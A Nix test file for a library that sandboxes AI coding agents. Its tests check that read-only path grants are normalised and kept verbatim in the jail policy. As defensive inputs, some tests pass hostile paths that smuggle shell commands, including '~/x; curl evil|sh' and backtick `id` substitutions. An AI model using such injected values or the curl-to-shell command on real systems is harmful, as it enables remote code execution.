# Paths: checked, normalised and kept verbatim in the policy (tests/adversarial.rs and
# tests/nix_library.rs hand hostile ones to the library and read the policy back).
{
  h ? import ./helpers.nix { },
}:
let
  inherit (h.jailgen.internals) paths;

  # The read-only grants of the policy of a jail given `p`.
  agentBinds =
    p:
    (h.policyOf (
      h.jailgen.makeJailedAgent {
        name = "a";
        pkg = h.pkgs.hello;
        configPaths = [ ];
        extraReadonlyDirs = [ p ];
      }
    )).readonly;
in
{
  "test: hostile home paths reach the policy as they are, one grant each" = {
    expr = map agentBinds [
      "~/my dir"
      "~/x; curl evil|sh"
      "~/it's"
      "~/\"quoted\" `id` $HOME"
    ];
    expected = [
      [ "~/my dir" ]
      [ "~/x; curl evil|sh" ]
      [ "~/it's" ]
      [ "~/\"quoted\" `id` $HOME" ]
    ];
  };
  "test: a bare tilde is the home directory" = {
    expr = agentBinds "~";
    expected = [ "~" ];
  };
  "test: paths are normalised" = {
    expr = map paths.normalize [
      "~/a//b/"
      "/srv/./x/"
      "~/"
      "/"
    ];
    expected = [
      "~/a/b"
      "/srv/x"
      "~"
      "/"
    ];
  };
  "test: a home path reaches the policy as it is, normalised, never shell-quoted" = {
    expr = map agentBinds [
      "~/a b"
      "~/a//b;c/"
    ];
    expected = [
      [ "~/a b" ]
      [ "~/a/b;c" ]
    ];
  };
  "test: an absolute path reaches the policy as it is" = {
    expr = agentBinds "/srv/a b";
    expected = [ "/srv/a b" ];
  };
  "test: a path with a dollar or backtick reaches the policy as it is and never the wrapper" = {
    expr =
      let
        j = h.jailgen.makeJailedAgent {
          name = "a";
          pkg = h.pkgs.hello;
          configPaths = [ ];
          extraReadonlyDirs = [ "/srv/a $b `id`" ];
        };
      in
      [
        (h.policyOf j).readonly
        (builtins.length (builtins.split "srv/a" j.text))
      ];
    expected = [
      [ "/srv/a $b `id`" ]
      1
    ];
  };
  "test: a state path is a file only with an extension from file-extensions.json" = {
    expr = map paths.isFile [
      "~/.claude.json"
      "~/.claude"
      "~/.config/a.d/x.toml"
      "~/.local/share/amp"
      "~/.config/io.datasette.llm"
      "~/archive.tar.gz"
      "~/.env"
    ];
    expected = [
      true
      false
      true
      false
      false
      false
      true
    ];
  };
}
